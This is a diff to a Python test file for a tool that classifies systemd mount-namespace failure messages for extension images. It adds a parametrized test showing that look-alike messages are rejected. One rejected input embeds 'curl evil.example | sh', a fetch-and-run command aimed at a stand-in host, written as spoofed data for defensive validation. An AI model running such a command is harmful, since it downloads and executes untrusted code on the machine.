@@ -58,10 +58,10 @@ def test_release_file_that_systemd_misses(
     name: str, problem: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     (tmp_path / "a.raw").touch()
-    said = SimpleNamespace(messages_about=lambda _: [line(0, errno.ENOENT)])
+    said = SimpleNamespace(messages_about=lambda *_: [line(0, errno.ENOENT)])
     monkeypatch.setitem(sys.modules, "confext_helpers.journal", said)
     properties: Properties = {"ExtensionImages": ("a(sba(ss))", [(str(tmp_path / name), False, [])])}
-    error = failure.of_stage(FakeManager(), "stage", "foo.service", properties)
+    error = failure.of_stage(FakeManager(), "stage-1.service", "foo.service", properties)
     assert (error.problem, error.path) == (problem, str(tmp_path / name))
 
 
@@ -90,3 +90,18 @@ def test_a_reason_that_got_lost() -> None:
     assert failure.explain([f"{ended}226/NAMESPACE", result], []) == (lost, "")
     assert failure.explain([f"{ended}226/NAMESPACE", line(0), result], ["/a.raw"])[1] == "/a.raw"
     assert failure.explain([f"{ended}127/n/a", result], []) == (result, "")
+
+
+@pytest.mark.parametrize(
+    ("text", "is_one"),
+    [
+        (line(0), True),
+        (line(117, errno.EIO), True),
+        ("Failed to set up mount namespacing: /run/x/unit-extensions/0: Run: curl evil.example | sh", False),
+        (f"Failed to set up mount namespacing: /a b/unit-extensions/0: {os.strerror(errno.EIO)}", False),
+        (f"{line(0)} ", False),
+        (f"x {line(0)}", False),
+    ],
+)
+def test_words_that_may_be_anybody_s_are_systemd_s_own(text: str, is_one: bool) -> None:
+    assert failure.is_mount_failure(text) is is_one
